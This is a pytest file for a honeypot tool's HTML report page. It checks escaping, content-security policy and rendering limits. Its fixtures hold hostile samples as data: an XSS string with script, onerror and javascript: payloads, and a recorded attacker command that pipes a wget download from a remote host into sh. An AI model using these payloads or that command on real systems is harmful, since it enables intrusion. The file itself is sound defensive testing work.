"""The page of `decnet report`: in a real browser, and as text."""

from __future__ import annotations

import html
import re
import sys
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from decnet.console.html import Html, el, join
from decnet.console.report_page import page
from decnet.engine.outcome import Listing, StatusOutcome
from decnet.export.activity import MOST_BARS, MOST_ENTRIES, MOST_SOURCES, Activity, activity
from decnet.model.event import AttackerEvent

sys.path.insert(0, str(Path(__file__).parent))
from browser import Browser, Seen

NOW = 1_767_225_600.0
WEEK = 7 * 86_400
Pairs = list[tuple[str, AttackerEvent]]

EVIL = (
    '</code></td></style><script>alert(1)</script>"\'><img src="http://192.0.2.1/x" onerror=alert(1)>\u202e'
)
EVIL += "\x1b[31m&amp;<a href=javascript:alert(1)>" + "W" * 300

FIELDS: dict[str, dict[str, Any]] = {
    "contact": {},
    "scan": {"probe": "syn", "ports": "22,80,443", "count": 3},
    "login": {"username": "root", "password": "hunter2", "success": False, "method": "password"},
    "command": {"input": "wget http://198.51.100.23/x.sh -O- | sh; " + "a" * 300, "way": "shell"},
    "request": {"method": "GET", "path": "/wp-login.php?redirect_to=" + "b" * 300, "status": 404},
    "file": {"path": "/tmp/.x/bot", "size": 91234, "sha256": "ab" * 32},
    "disconnect": {"seconds": 3.2, "commands": 1},
    "error": {"error": "expected '$'"},
    "lost": {"count": 12, "reason": "the spool was full"},
    "pivot": {"target": "10.0.0.7", "port": 22},
}


def events(**changes: Any) -> Pairs:
    """Of all kinds, by three sources on two deckies, over a week."""
    found = []
    for number in range(300):
        kind = sorted(FIELDS)[number % len(FIELDS)]
        known: dict[str, Any] = {
            "id": f"e{number}", "seq": number, "at": NOW - WEEK + number * WEEK / 300,
            "decky": f"web-{number % 2}", "service": "ssh", "kind": kind, "source_port": 4000,
            "source_ip": f"203.0.113.{number % 3}",
            "session": "s", "fields": {**FIELDS[kind], **({"success": True} if number == 42 else {})},
        }  # fmt: skip
        found.append(("w1", AttackerEvent.model_validate({**known, **changes})))
    return found


def hostile() -> Pairs:
    """The same with hostile text wherever a visitor or a worker can put some."""
    found = []
    for _, each in events():
        fields = {name: EVIL if isinstance(value, str) else value for name, value in each.fields.items()}
        changes = {"source_ip": EVIL[:200], "decky": EVIL[:200], "service": EVIL[:200], "session": EVIL[:200]}
        found.append((EVIL, each.model_copy(update={**changes, "fields": fields})))
    return found


def health(text: str = "", number: int = 3) -> StatusOutcome:
    workers = [
        {"name": text or "w1", "state": "up", "deckies": number, "error": "", "link_error": "",
         "agent_remark": text},
        {"name": "w2", "state": "unreachable", "deckies": 0, "error": text or "no answer", "link_error": "",
         "agent_remark": ""},
    ]  # fmt: skip
    deckies = [
        {"name": text or f"web-{each}", "worker": "w1", "status": "running" if each else "degraded",
         "ip": f"192.0.2.{each}", "hostname": text or f"srv-{each}", "services": [text or "ssh", "http"]}
        for each in range(number)
    ]  # fmt: skip
    rows = Listing("workers", (), (), tuple(workers)), Listing("deckies", (), (), tuple(deckies))
    return StatusOutcome(*rows, faults=(text,) if text else ())


def counted(found: Pairs, since: float | None = NOW - WEEK) -> Activity:
    return activity(lambda: found, since=since, now=NOW)


PAGES = {
    "full": lambda: page(counted(events()), health(), redacted=False),
    "empty": lambda: page(counted([]), health(number=0), redacted=True),
    "hostile": lambda: page(counted(hostile(), None), health(EVIL), redacted=False),
}


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    found = Browser(tmp_path_factory.mktemp("browser"))
    yield found
    found.close()


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("width", [360, 1600])
@pytest.mark.parametrize("name", sorted(PAGES))
def test_a_browser_shows_it_without_an_error_a_request_or_an_overflow(
    browser: Browser, tmp_path: Path, name: str, width: int, theme: str
) -> None:
    file = tmp_path / "report.html"
    file.write_text(PAGES[name]())
    seen = browser.look(file, width, theme)
    assert (seen.errors, seen.requests, seen.outside, seen.active) == ([], [], [], 0)
    assert seen.room == width and seen.width <= width
    # Its own style applies: the policy allows it, and it knows both themes.
    assert seen.paper == {"light": "rgb(246, 245, 241)", "dark": "rgb(18, 20, 23)"}[theme]
    assert "decnet report" in seen.text


def test_the_browser_reports_what_the_page_must_not_do(browser: Browser, tmp_path: Path) -> None:
    file = tmp_path / "bad.html"
    file.write_text(
        "<body style='margin:0'><div style='width:2000px'>x</div><img src='http://127.0.0.1:9/x'>"
        "<script>console.error('bad')</script></body>"
    )
    seen: Seen = browser.look(file, 360, "light")
    assert seen.errors and seen.requests == ["http://127.0.0.1:9/x"]
    assert seen.width == 2000 and seen.outside and seen.active == 2


def test_hostile_text_is_shown_as_text(browser: Browser, tmp_path: Path) -> None:
    file = tmp_path / "report.html"
    file.write_text(PAGES["hostile"]())
    assert "<script>alert(1)</script>" in browser.look(file, 1600, "light").text


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: set[str] = set()
        self.text = ""

    def handle_starttag(self, tag: str, attributes: Any) -> None:
        self.found.add(tag)

    def handle_data(self, data: str) -> None:
        self.text += data


@given(st.text(max_size=80), st.text(max_size=80))
def test_no_text_leaves_its_element(text: str, value: str) -> None:
    reader = Tags()
    reader.feed(el("p", text, title=value))
    reader.close()
    assert reader.found == {"p"}
    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e]", reader.text)


def test_elements_inside_of_elements_are_not_escaped() -> None:
    assert el("p", el("b", "<"), "&", 3) == Html("<p><b>&lt;</b>&amp;3</p>")
    assert join("<", Html("<br>")) == "&lt;<br>"


def test_the_page_has_no_hostile_markup_and_a_strict_policy() -> None:
    text = PAGES["hostile"]()
    assert "<script" not in text and "<img" not in text and "javascript:alert(1)>" not in text
    assert html.escape("<script>alert(1)</script>") in text
    assert "default-src 'none'" in html.unescape(text.partition('content="')[2].partition('"')[0])
    assert "style=" not in text and "http-equiv" in text and "\x1b" not in text and "\u202e" not in text


def test_bars_hold_every_event_once() -> None:
    found = counted(events())
    assert sum(sum(bar.counts.values()) for bar in found.bars) == found.tally.events == 300 + 30 * 11
    assert 0 < len(found.bars) <= MOST_BARS


@pytest.mark.parametrize("first", [0.0, NOW - 1e6, NOW - 59, NOW])
def test_any_period_has_a_readable_number_of_bars(first: float) -> None:
    pairs = [*events(at=first), *events(at=1e11)]
    found = counted(pairs, None)
    assert len(found.bars) <= MOST_BARS
    assert sum(sum(bar.counts.values()) for bar in found.bars) == found.tally.events
    assert page(found, health(), redacted=False)


def test_a_flood_of_sources_and_events_is_bounded() -> None:
    pairs = [
        ("w1", each.model_copy(update={"source_ip": f"198.51.100.{number % 250}"}))
        for number, (_, each) in enumerate(events() * 5)
    ]
    pairs += events(source_ip="203.0.113.250") * 3
    found = counted(pairs)
    assert len(found.attackers) == MOST_SOURCES
    assert max(len(each.entries) for each in found.attackers) == MOST_ENTRIES


def test_credentials_that_were_accepted_come_first() -> None:
    found = counted(events()).credentials
    assert [(each.username, each.password, each.accepted) for each in found] == [("root", "hunter2", False)]
    shown = page(counted(events()), health(), redacted=True)
    assert "Passwords are not shown." in shown
